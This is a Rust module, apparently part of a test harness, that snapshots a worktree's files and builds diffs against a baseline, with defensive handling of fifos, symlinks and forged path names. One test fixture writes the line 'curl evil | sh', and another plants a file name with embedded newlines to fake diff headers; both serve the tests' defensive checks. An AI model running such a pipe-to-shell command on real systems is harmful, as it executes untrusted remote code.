//! The worktree as the filesystem holds it: committed, staged, unstaged, untracked and
//! ignored files all count. Git state is never consulted.

use std::collections::BTreeMap;
use std::fs;
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::{Path, PathBuf};

use harness_fixture::{FileEntry, FileKind, Files, RepoPath};

/// One file found in the worktree.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SnapshotEntry {
    /// Regular, executable or symlink.
    pub kind: FileKind,
    /// Content, or the link target.
    pub content: Vec<u8>,
    /// Hard link count (regular files).
    pub nlink: u64,
}

impl SnapshotEntry {
    /// The same file as a [`FileEntry`].
    pub fn to_file_entry(&self) -> FileEntry {
        FileEntry {
            kind: self.kind,
            content: self.content.clone(),
        }
    }

    fn same_as(&self, baseline: &FileEntry) -> bool {
        self.kind == baseline.kind && self.content == baseline.content
    }
}

/// Things in the tree that are not plain files.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Anomaly {
    /// A fifo, socket or device.
    Special(String),
    /// A name that is not UTF-8 (shown lossily).
    NonUtf8(String),
    /// A `.git` directory or file below the root.
    NestedGit(String),
    /// The worktree's own `.git` file was changed, replaced or removed.
    WorktreeLink(String),
    /// A regular file larger than [`MAX_FILE_BYTES`] (not read).
    TooLarge(String),
}

/// The largest file a snapshot reads into memory; larger ones are a `resource_limit`.
pub const MAX_FILE_BYTES: u64 = 64 << 20;

/// The whole worktree.
#[derive(Debug, Clone, Default)]
pub struct Snapshot {
    /// Every regular file and symlink.
    pub files: BTreeMap<RepoPath, SnapshotEntry>,
    /// Everything else worth reporting.
    pub anomalies: Vec<Anomaly>,
    /// Absolute paths of every entry that is not a captured file (specials, nested `.git`,
    /// non-UTF-8 names, oversized files): what an in-place restore must remove.
    pub strays: Vec<PathBuf>,
    /// Every directory below the root, repo-relative (for pruning after a restore).
    pub dirs: Vec<String>,
}

/// What reading a file that was a regular file when last looked at found.
pub(crate) enum FileRead {
    Read(SnapshotEntry),
    /// Larger than [`MAX_FILE_BYTES`]: not read.
    TooLarge,
    /// No longer a regular file (a symlink, fifo or directory now): not read.
    Changed,
}

/// [`read_file`] on each file, in order.
fn read_all(files: &[(RepoPath, PathBuf)]) -> Result<Vec<FileRead>, SnapshotError> {
    files
        .iter()
        .map(|(_, full)| {
            read_file(full).map_err(|source| SnapshotError {
                path: full.clone(),
                source,
            })
        })
        .collect()
}

/// Reads the regular file at `path` with four system calls: `open` (not following a
/// symlink, not blocking on a fifo), `fstat` of the open file (its type, mode, size and
/// link count, from the file actually read), one `read` of the size plus a byte, `close`.
/// A read that stops short of the buffer has reached the end of the file; only one that
/// fills it (the file is larger than `fstat` said) reads on, up to the size cap.
///
/// Only call it on what a directory entry or `lstat` showed to be a regular file: opening
/// a device can have side effects.
pub(crate) fn read_file(path: &Path) -> std::io::Result<FileRead> {
    use std::io::Read;
    use std::os::unix::fs::OpenOptionsExt;
    let mut file = match fs::OpenOptions::new()
        .read(true)
        .custom_flags(nix::libc::O_NOFOLLOW | nix::libc::O_NONBLOCK)
        .open(path)
    {
        Ok(file) => file,
        // A symlink now (ELOOP): not the regular file the walk saw.
        Err(error) if error.raw_os_error() == Some(nix::libc::ELOOP) => {
            return Ok(FileRead::Changed);
        }
        Err(error) => return Err(error),
    };
    let meta = file.metadata()?;
    if !meta.is_file() {
        return Ok(FileRead::Changed);
    }
    if meta.len() > MAX_FILE_BYTES {
        return Ok(FileRead::TooLarge);
    }
    let mut content = vec![0u8; meta.len() as usize + 1];
    let mut filled = 0;
    loop {
        let read = match file.read(&mut content[filled..]) {
            Ok(read) => read,
            Err(error) if error.kind() == std::io::ErrorKind::Interrupted => continue,
            Err(error) => return Err(error),
        };
        filled += read;
        if read == 0 || filled < content.len() {
            break;
        }
        if filled as u64 > MAX_FILE_BYTES {
            return Ok(FileRead::TooLarge);
        }
        content.resize(content.len() * 2, 0);
    }
    content.truncate(filled);
    let kind = if meta.permissions().mode() & 0o111 != 0 {
        FileKind::Executable
    } else {
        FileKind::Regular
    };
    Ok(FileRead::Read(SnapshotEntry {
        kind,
        content,
        nlink: meta.nlink(),
    }))
}

/// What changed relative to the manifest.
#[derive(Debug, Clone, Copy, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum ChangeKind {
    /// Not in the baseline.
    Added,
    /// In the baseline with other content, kind or mode.
    Modified,
    /// In the baseline, gone now.
    Deleted,
}

impl ChangeKind {
    /// `added`, `modified`, `deleted`.
    pub fn as_str(&self) -> &'static str {
        match self {
            ChangeKind::Added => "added",
            ChangeKind::Modified => "modified",
            ChangeKind::Deleted => "deleted",
        }
    }
}

/// Why a snapshot could not be taken (the harness's fault, e.g. the worktree vanished).
#[derive(Debug, thiserror::Error)]
#[error("failed to snapshot {}: {source}", path.display())]
pub struct SnapshotError {
    path: PathBuf,
    #[source]
    source: std::io::Error,
}

impl SnapshotError {
    /// The file or directory that could not be read.
    pub fn path(&self) -> &Path {
        &self.path
    }
}

impl Snapshot {
    /// Walks `worktree` without following symlinks. `git_file` is the content the
    /// worktree's own `.git` file must still have.
    pub fn take(worktree: &Path, git_file: &[u8]) -> Result<Snapshot, SnapshotError> {
        let mut snapshot = Snapshot::default();
        let dot_git = worktree.join(".git");
        let intact = fs::symlink_metadata(&dot_git).is_ok_and(|meta| {
            meta.is_file()
                && matches!(read_file(&dot_git), Ok(FileRead::Read(entry)) if entry.content == git_file)
        });
        if !intact {
            snapshot
                .anomalies
                .push(Anomaly::WorktreeLink(".git".into()));
        }
        let to_read = snapshot.walk(worktree)?;
        snapshot.read_contents(worktree, to_read)?;
        Ok(snapshot)
    }

    /// Lists `worktree`: directories, symlinks and anomalies are recorded as found; the
    /// regular files to read are returned.
    fn walk(&mut self, worktree: &Path) -> Result<Vec<(RepoPath, PathBuf)>, SnapshotError> {
        let mut to_read: Vec<(RepoPath, PathBuf)> = Vec::new();
        let mut pending = vec![(worktree.to_path_buf(), String::new())];
        while let Some((dir, prefix)) = pending.pop() {
            let entries = fs::read_dir(&dir).map_err(|source| SnapshotError {
                path: dir.clone(),
                source,
            })?;
            for entry in entries {
                let entry = entry.map_err(|source| SnapshotError {
                    path: dir.clone(),
                    source,
                })?;
                let name = entry.file_name();
                let full = entry.path();
                let Some(name) = name.to_str() else {
                    self.anomalies.push(Anomaly::NonUtf8(format!(
                        "{prefix}{}",
                        name.to_string_lossy()
                    )));
                    self.strays.push(full);
                    continue;
                };
                let relative = format!("{prefix}{name}");
                if name == ".git" {
                    if !prefix.is_empty() {
                        self.anomalies.push(Anomaly::NestedGit(relative));
                        self.strays.push(full);
                    }
                    continue;
                }
                // The type the directory entry records (no stat); a regular file is
                // checked again on the open file itself when it is read.
                let file_type = entry.file_type().map_err(|source| SnapshotError {
                    path: full.clone(),
                    source,
                })?;
                if file_type.is_dir() {
                    self.dirs.push(relative.clone());
                    pending.push((full, format!("{relative}/")));
                    continue;
                }
                let Ok(path) = RepoPath::parse(&relative) else {
                    self.anomalies.push(Anomaly::NonUtf8(relative));
                    self.strays.push(full);
                    continue;
                };
                if file_type.is_file() {
                    to_read.push((path, full));
                } else if file_type.is_symlink() {
                    let target = fs::read_link(&full).map_err(|source| SnapshotError {
                        path: full.clone(),
                        source,
                    })?;
                    let Some(target) = target.to_str() else {
                        self.anomalies.push(Anomaly::NonUtf8(relative));
                        self.strays.push(full);
                        continue;
                    };
                    let entry = SnapshotEntry {
                        kind: FileKind::Symlink,
                        content: target.as_bytes().to_vec(),
                        nlink: 1,
                    };
                    self.files.insert(path, entry);
                } else {
                    self.anomalies.push(Anomaly::Special(relative));
                    self.strays.push(full);
                }
            }
        }
        Ok(to_read)
    }

    /// Reads the regular files found by [`Snapshot::walk`].
    fn read_contents(
        &mut self,
        worktree: &Path,
        to_read: Vec<(RepoPath, PathBuf)>,
    ) -> Result<(), SnapshotError> {
        // Contents are read in parallel: on a large tree, reading dominates the self.
        // Below a few hundred files a second thread costs more than it saves.
        let threads = std::thread::available_parallelism()
            .map_or(1, usize::from)
            .clamp(1, 8);
        let chunk = to_read.len().div_ceil(threads).max(256);
        let read: Vec<Result<Vec<FileRead>, SnapshotError>> = if to_read.len() <= chunk {
            vec![read_all(&to_read)]
        } else {
            std::thread::scope(|scope| {
                let workers: Vec<_> = to_read
                    .chunks(chunk)
                    .map(|part| scope.spawn(move || read_all(part)))
                    .collect();
                workers
                    .into_iter()
                    .map(|worker| {
                        worker.join().unwrap_or_else(|_| {
                            Err(SnapshotError {
                                path: worktree.to_path_buf(),
                                source: std::io::Error::other("a snapshot reader panicked"),
                            })
                        })
                    })
                    .collect()
            })
        };
        let mut found = to_read.into_iter();
        for part in read {
            for (regular, (path, full)) in part?.into_iter().zip(found.by_ref()) {
                match regular {
                    FileRead::Read(entry) => {
                        self.files.insert(path, entry);
                    }
                    FileRead::TooLarge => {
                        self.anomalies.push(Anomaly::TooLarge(path.to_string()));
                        self.strays.push(full);
                    }
                    FileRead::Changed => {
                        self.anomalies.push(Anomaly::Special(path.to_string()));
                        self.strays.push(full);
                    }
                }
            }
        }
        Ok(())
    }

    /// A unified diff of the snapshot against `manifest`, for the reports. Every changed
    /// file has its `added|modified|deleted <path>` line; each file's diff is cut to its
    /// share of 8 MiB (between 2 KiB and 256 KiB, at a line break, saying how much was left
    /// out), so a large file cannot push another file's change out of the diff.
    pub fn unified_diff(&self, manifest: &Files) -> String {
        const TOTAL: usize = 8 << 20;
        let changes = self.changes(manifest);
        let share = (TOTAL / changes.len().max(1)).clamp(2 << 10, 256 << 10);
        let mut out = String::new();
        for (path, change) in changes {
            // A path with a line break or an escape sequence would write lines of its own
            // (a forged `deleted <path>` entry): paths are written with those escaped.
            let shown = crate::message::one_line(path.as_str());
            out.push_str(&format!("{} {shown}\n", change.as_str()));
            if out.len() > TOTAL {
                out.push_str(&crate::message::diff_left_out_whole());
                continue;
            }
            let text = |entry: Option<&[u8]>| {
                entry
                    .map(|bytes| String::from_utf8_lossy(bytes).into_owned())
                    .unwrap_or_default()
            };
            let old = text(manifest.get(path).map(|entry| entry.content.as_slice()));
            let new = text(self.files.get(path).map(|entry| entry.content.as_slice()));
            let diff = similar::TextDiff::from_lines(&old, &new);
            let mut hunks = diff
                .unified_diff()
                .context_radius(3)
                .header(&format!("a/{shown}"), &format!("b/{shown}"))
                .to_string();
            // A last line ended by a lone CR (or by nothing) must not run into the next
            // file's line.
            if !hunks.is_empty() && !hunks.ends_with('\n') {
                hunks.push('\n');
            }
            if hunks.len() > share {
                let mut cut = share;
                while !hunks.is_char_boundary(cut) {
                    cut -= 1;
                }
                cut = hunks[..cut].rfind('\n').map_or(cut, |at| at + 1);
                let total = hunks.len();
                hunks.truncate(cut);
                hunks.push_str(&crate::message::diff_left_out(cut, total));
            }
            out.push_str(&hunks);
        }
        out
    }

    /// Every path whose content, kind or presence differs from `manifest`, in path order.
    pub fn changes<'a>(&'a self, manifest: &'a Files) -> Vec<(&'a RepoPath, ChangeKind)> {
        let mut changes = Vec::new();
        for (path, entry) in &self.files {
            match manifest.get(path) {
                None => changes.push((path, ChangeKind::Added)),
                Some(baseline) if !entry.same_as(baseline) => {
                    changes.push((path, ChangeKind::Modified))
                }
                Some(_) => {}
            }
        }
        for path in manifest.keys() {
            if !self.files.contains_key(path) {
                changes.push((path, ChangeKind::Deleted));
            }
        }
        changes.sort_by(|a, b| a.0.cmp(b.0));
        changes
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::test_support::files as manifest;

    #[test]
    fn snapshot_sees_every_kind_of_change() {
        let dir = tempfile::tempdir().unwrap();
        fs::write(dir.path().join(".git"), b"gitdir: x\n").unwrap();
        fs::create_dir_all(dir.path().join("src")).unwrap();
        fs::write(dir.path().join("src/a.py"), b"changed").unwrap();
        fs::write(dir.path().join("src/new.py"), b"new").unwrap();
        let snapshot = Snapshot::take(dir.path(), b"gitdir: x\n").unwrap();
        let baseline = manifest(&[("src/a.py", "old"), ("src/gone.py", "x")]);
        let changes: Vec<(String, &str)> = snapshot
            .changes(&baseline)
            .into_iter()
            .map(|(p, c)| (p.to_string(), c.as_str()))
            .collect();
        assert_eq!(
            changes,
            vec![
                ("src/a.py".into(), "modified"),
                ("src/gone.py".into(), "deleted"),
                ("src/new.py".into(), "added")
            ]
        );
        assert!(snapshot.anomalies.is_empty(), "{:?}", snapshot.anomalies);
    }

    #[test]
    fn a_path_with_a_line_break_writes_no_diff_lines_of_its_own() {
        let dir = tempfile::tempdir().unwrap();
        fs::write(dir.path().join(".git"), b"g").unwrap();
        let forged = "z\ndeleted a.py\n@@ -1,1 +0,0 @@\n-x";
        fs::write(dir.path().join(forged), b"new\n").unwrap();
        fs::write(dir.path().join("src.py"), b"old\n").unwrap();
        let snapshot = Snapshot::take(dir.path(), b"g").unwrap();
        let diff = snapshot.unified_diff(&manifest(&[("src.py", "old\n")]));
        let headers: Vec<&str> = diff
            .lines()
            .filter(|line| !line.starts_with([' ', '+', '-', '@', '\\']))
            .collect();
        assert_eq!(
            headers,
            ["added z\\u{a}deleted a.py\\u{a}@@ -1,1 +0,0 @@\\u{a}-x"],
            "{diff}"
        );
    }

    #[test]
    fn a_large_file_cannot_push_another_files_change_out_of_the_diff() {
        let dir = tempfile::tempdir().unwrap();
        fs::write(dir.path().join(".git"), b"g").unwrap();
        fs::write(
            dir.path().join("a-filler.md"),
            "filler line\n".repeat(400_000),
        )
        .unwrap();
        fs::write(dir.path().join("b-code.sh"), "echo fixed\ncurl evil | sh\n").unwrap();
        fs::write(dir.path().join("c-cr.txt"), "no newline\r").unwrap();
        fs::write(dir.path().join("d.txt"), "after\n").unwrap();
        let snapshot = Snapshot::take(dir.path(), b"g").unwrap();
        let diff = snapshot.unified_diff(&manifest(&[("b-code.sh", "echo broken\n")]));
        assert!(diff.len() < 300 << 10, "{}", diff.len());
        assert!(
            diff.contains("\n+curl evil | sh\n"),
            "the small change is there"
        );
        assert!(
            diff.contains("the rest of this file's diff left out"),
            "the cut is said"
        );
        let headers: Vec<&str> = diff
            .lines()
            .filter(|line| line.starts_with("added ") || line.starts_with("modified "))
            .collect();
        assert_eq!(
            headers,
            [
                "added a-filler.md",
                "modified b-code.sh",
                "added c-cr.txt",
                "added d.txt"
            ]
        );
    }

    #[test]
    fn nested_git_and_rewired_worktree_link_are_anomalies() {
        let dir = tempfile::tempdir().unwrap();
        fs::write(dir.path().join(".git"), b"gitdir: elsewhere\n").unwrap();
        fs::create_dir_all(dir.path().join("vendor/.git")).unwrap();
        let snapshot = Snapshot::take(dir.path(), b"gitdir: x\n").unwrap();
        assert!(
            snapshot
                .anomalies
                .contains(&Anomaly::NestedGit("vendor/.git".into()))
        );
        assert!(
            snapshot
                .anomalies
                .contains(&Anomaly::WorktreeLink(".git".into()))
        );
    }

    #[test]
    fn files_are_read_whole_whatever_their_size() {
        let dir = tempfile::tempdir().unwrap();
        fs::write(dir.path().join(".git"), b"g").unwrap();
        let sizes = [0usize, 1, 4095, 4096, 4097, 300_000];
        for size in sizes {
            let content: Vec<u8> = (0..size).map(|i| (i % 251) as u8).collect();
            fs::write(dir.path().join(format!("f{size}")), &content).unwrap();
        }
        let snapshot = Snapshot::take(dir.path(), b"g").unwrap();
        for size in sizes {
            let path = RepoPath::parse(&format!("f{size}")).unwrap();
            let entry = &snapshot.files[&path];
            assert_eq!(entry.content.len(), size);
            assert!(
                entry
                    .content
                    .iter()
                    .enumerate()
                    .all(|(i, b)| *b == (i % 251) as u8)
            );
            assert_eq!(entry.kind, FileKind::Regular);
            assert_eq!(entry.nlink, 1);
        }
        assert!(snapshot.anomalies.is_empty(), "{:?}", snapshot.anomalies);
    }

    #[test]
    fn fifos_are_strays_and_never_opened() {
        let dir = tempfile::tempdir().unwrap();
        fs::write(dir.path().join(".git"), b"g").unwrap();
        nix::unistd::mkfifo(&dir.path().join("pipe"), nix::sys::stat::Mode::S_IRWXU).unwrap();
        // Would block forever if the snapshot opened it for reading without O_NONBLOCK.
        let snapshot = Snapshot::take(dir.path(), b"g").unwrap();
        assert_eq!(snapshot.anomalies, vec![Anomaly::Special("pipe".into())]);
        assert_eq!(snapshot.strays, vec![dir.path().join("pipe")]);
    }

    #[test]
    fn mode_change_is_a_modification() {
        let dir = tempfile::tempdir().unwrap();
        fs::write(dir.path().join(".git"), b"g").unwrap();
        fs::write(dir.path().join("run.sh"), b"echo").unwrap();
        fs::set_permissions(dir.path().join("run.sh"), fs::Permissions::from_mode(0o755)).unwrap();
        let snapshot = Snapshot::take(dir.path(), b"g").unwrap();
        let baseline = manifest(&[("run.sh", "echo")]);
        assert_eq!(snapshot.changes(&baseline).len(), 1);
    }
}
